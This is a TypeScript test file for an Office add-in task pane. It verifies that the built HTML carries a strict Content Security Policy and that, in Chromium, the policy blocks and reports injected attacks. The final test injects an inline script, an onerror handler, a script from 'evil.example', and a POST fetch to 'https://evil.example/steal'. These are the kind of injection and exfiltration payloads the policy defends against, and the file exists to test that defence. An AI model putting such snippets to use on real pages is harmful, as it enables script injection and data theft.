/**
 * The task pane's Content Security Policy: present in the built HTML, strict (only self, Office.js's CDN
 * and the API; no inline script, eval or plugins), and in Chromium the pane works under it with no
 * violation of its own, while an injected inline script, inline handler, foreign script or foreign fetch
 * is blocked and reported.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumMissing, DIST, startPaneRig, type PaneRig } from '../a11y/pane';
import { FUNCTIONS } from '../../shared/formulas/index';

const html = (): string => readFileSync(join(DIST, 'taskpane.html'), 'utf8');

function policyOf(text: string): Map<string, string[]> {
  const content = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"\s*\/?>/.exec(text)?.[1];
  if (!content) throw new Error('dist/addin/taskpane.html has no CSP meta (stale build? npm run build)');
  return new Map(
    content
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...sources]) => [name!, sources]),
  );
}

describe('task pane CSP in the built HTML', () => {
  it('allows only self, Office.js and the API; no inline script, eval or plugins', () => {
    const p = policyOf(html());
    expect(p.get('default-src')).toEqual(["'self'"]);
    expect(p.get('script-src')).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
    expect(p.get('connect-src')).toEqual(["'self'"]); // built without CIC_API_BASE_URL: the API is same-origin
    expect(p.get('object-src')).toEqual(["'none'"]);
    expect(p.get('base-uri')).toEqual(["'none'"]);
    expect([...p.values()].flat().filter((s) => /unsafe|\*|data:|blob:|http:/.test(s))).toEqual([]);
  });

  it('the page itself has no inline script or handler the policy would block', () => {
    const page = html();
    expect(page.match(/<script(?![^>]*\ssrc=)[^>]*>/g) ?? []).toEqual([]);
    expect(page.match(/\son[a-z]+=/g) ?? []).toEqual([]);
    expect(page).not.toMatch(/\sstyle=/);
  });
});

describe.skipIf(chromiumMissing !== null)('task pane under its CSP in Chromium', () => {
  let rig: PaneRig;
  let page: Page;
  const violations = (p: Page) => p.evaluate(() => (window as never as { __csp: string[] }).__csp);

  beforeAll(async () => {
    rig = await startPaneRig();
    page = await rig.open();
  });
  afterAll(() => rig?.close());

  it('works: Office.js loads, functions register, the API answers, LAs fill in; no violation', async () => {
    expect(await page.evaluate(() => typeof (window as never as { Office?: unknown }).Office)).toBe('object');
    expect(
      await page.evaluate(
        () => Object.keys((window as never as { CustomFunctions: { _association: { mappings: object } } }).CustomFunctions._association.mappings).length,
      ),
    ).toBe(FUNCTIONS.length);
    await expect.poll(() => page.locator('#la-options option').count()).toBeGreaterThan(5);
    expect(await page.evaluate(async () => (await fetch('/api/health')).status)).toBe(200);
    expect(await violations(page)).toEqual([]);
  });

  it('blocks an injected inline script, inline handler, foreign script and foreign fetch', async () => {
    const outcome = await page.evaluate(async () => {
      const w = window as never as { __pwned?: string[] };
      w.__pwned = [];
      const inline = document.createElement('script');
      inline.textContent = 'window.__pwned.push("inline")';
      document.body.append(inline);
      const img = document.createElement('img');
      img.setAttribute('src', '/no-such.png');
      img.setAttribute('onerror', 'window.__pwned.push("handler")');
      document.body.append(img);
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      document.body.append(foreign);
      const fetched = await fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      );
      await new Promise((r) => setTimeout(r, 300));
      return { pwned: w.__pwned, fetched };
    });
    expect(outcome).toEqual({ pwned: [], fetched: 'blocked' });
    const seen = await violations(page);
    expect(seen).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src-elem inline/),
        expect.stringMatching(/^script-src-attr inline/),
        'script-src-elem https://evil.example/x.js',
        'connect-src https://evil.example/steal',
      ]),
    );
  });
});
